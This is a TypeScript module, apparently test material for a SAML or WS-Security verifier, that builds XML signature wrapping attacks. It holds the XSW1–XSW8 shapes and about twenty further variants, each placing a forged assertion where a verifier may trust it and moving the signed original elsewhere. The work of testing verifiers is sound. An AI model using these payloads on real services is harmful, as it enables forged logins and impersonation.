const wsse = 'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd';

/** Changes the claims of an assertion into those that the attacker wants believed. */
export type Forge = (assertion: string) => string;

/**
 * One shape of signature wrapping: what stands in place of the signed assertion, and what else the message gets. The
 * shapes known for SAML are XSW1 to XSW8 (Somorovsky et al., « On Breaking SAML », 2012).
 */
export type Shape = {
  readonly security: (signed: string, forge: Forge) => string;
  readonly message?: (message: string, signed: string) => string;
};

const signatureOf = (signed: string): string => /<ds:Signature .*<\/ds:Signature>/s.exec(signed)![0];
const without = (signed: string): string => signed.replace(signatureOf(signed), '');
const idOf = (signed: string): string => /ID="([^"]+)"/.exec(signed)![1]!;

/** The assertion that the attacker wants believed, without signature. */
export function forged(signed: string, forge: Forge, id = '_forged'): string {
  return forge(without(signed).replace(idOf(signed), id));
}

/** Puts something inside an assertion, right after its Issuer. */
const inside = (assertion: string, what: string): string =>
  assertion.replace('</saml:Issuer>', () => `</saml:Issuer>${what}`);
/** Puts something at the end of an element. */
const last = (xml: string, element: string, what: string): string =>
  xml.replace(`</${element}>`, () => `${what}</${element}>`);
const object = (what: string): string => `<ds:Object>${what}</ds:Object>`;
const dsObject = (what: string): string =>
  `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${what}</ds:Object>`;

export const wrappingShapes: Readonly<Record<string, Shape>> = {
  'XSW1: the forged assertion holds the signature, and in it the original': {
    security: (s, f) => inside(forged(s, f), last(signatureOf(s), 'ds:Signature', object(s))),
  },
  'XSW2: the forged assertion holds the original beside the signature': {
    security: (s, f) => inside(forged(s, f), without(s) + signatureOf(s)),
  },
  'XSW3: the forged assertion stands before the original': { security: (s, f) => forged(s, f) + s },
  'XSW3 reversed: the forged assertion stands after the original': { security: (s, f) => s + forged(s, f) },
  'XSW4: the original is a child of the forged assertion': { security: (s, f) => inside(forged(s, f), s) },
  'XSW5: the signature moves to the forged assertion, the original stands at the end of the message': {
    security: (s, f) => inside(forged(s, f), signatureOf(s)),
    message: (m, s) => last(m, 'soap:Envelope', without(s)),
  },
  'XSW6: the signature moves to the forged assertion, with the original in it': {
    security: (s, f) => inside(forged(s, f), last(signatureOf(s), 'ds:Signature', without(s))),
  },
  'XSW7: the forged assertion, under the same ID, stands in an extension before the original': {
    security: (s, f) => `<x:Extensions xmlns:x="urn:x">${forged(s, f, idOf(s))}</x:Extensions>${s}`,
  },
  'XSW8: the original, under the same ID, stands in an object of the signature of the forged assertion': {
    security: (s, f) => inside(forged(s, f, idOf(s)), last(signatureOf(s), 'ds:Signature', object(without(s)))),
  },
  'the original stands in the body, the forged assertion in its place': {
    security: (s, f) => forged(s, f),
    message: (m, s) => m.replace('<soap:Body>', `<soap:Body>${s}`),
  },
  'the original stands inside the message of the body': {
    security: (s, f) => forged(s, f),
    message: (m, s) => m.replace(/(<(?:[\w]+:)?PRPA_IN201307UV02[^>]*>)/, `$1${s}`),
  },
  'the original stands in another header': {
    security: (s, f) => forged(s, f),
    message: (m, s) => last(m, 'soap:Header', `<x:Kept xmlns:x="urn:x">${s}</x:Kept>`),
  },
  'the original stands in a second header of security, before the forged one': {
    security: (s, f) => forged(s, f),
    message: (m, s) => m.replace('<wsse:Security', `<w:Security xmlns:w="${wsse}">${s}</w:Security><wsse:Security`),
  },
  'a forged assertion of the same ID is hidden by another namespace of its ID': {
    security: (s, f) => forged(s, f).replace('ID="_forged"', `xmlns:z="urn:z" z:ID="${idOf(s)}"`) + s,
  },
  'the forged assertion alone bears the signature': { security: (s, f) => inside(forged(s, f), signatureOf(s)) },
  'the forged assertion alone bears the signature, under the signed ID': {
    security: (s, f) => inside(forged(s, f, idOf(s)), signatureOf(s)),
  },
  'the forged assertion is alone, the signature beside it': {
    security: (s, f) => forged(s, f, idOf(s)) + signatureOf(s),
  },
  'the signature signs another element, an attribute of the body': {
    security: (s, f) => inside(forged(s, f), signatureOf(s)),
    message: (m, s) => m.replace('<soap:Body>', `<soap:Body ID="${idOf(s)}">`),
  },
  'the signed ID is borne by a second element': {
    security: (s) => s,
    message: (m, s) => m.replace('<soap:Body>', `<soap:Body wsu:Id="${idOf(s)}" xmlns:wsu="urn:wsu">`),
  },
  'the signed ID is borne by a second element as xml:id': {
    security: (s) => s,
    message: (m, s) => m.replace('<soap:Body>', `<soap:Body xml:id="${idOf(s)}">`),
  },
  'the signed ID is borne by a second element as AssertionID': {
    security: (s) => s,
    message: (m, s) => m.replace('<soap:Body>', `<soap:Body AssertionID="${idOf(s)}">`),
  },
  'two assertions, each with its own signature': { security: (s) => s + s.replaceAll(idOf(s), '_second') },
  'the signature stands twice': { security: (s) => inside(s, signatureOf(s)) },
  'the signature stands at the end of its assertion, with an object': {
    security: (s) => last(s, 'ds:Signature', object('<x/>')),
  },
  'an object stands beside the signature': { security: (s, f) => s + dsObject(forged(s, f)) },
  'the signed assertion is put under a response of SAML': {
    security: (s, f) =>
      `<p:Response xmlns:p="urn:oasis:names:tc:SAML:2.0:protocol">${forged(s, f)}<p:Kept>${s}</p:Kept></p:Response>`,
  },
};
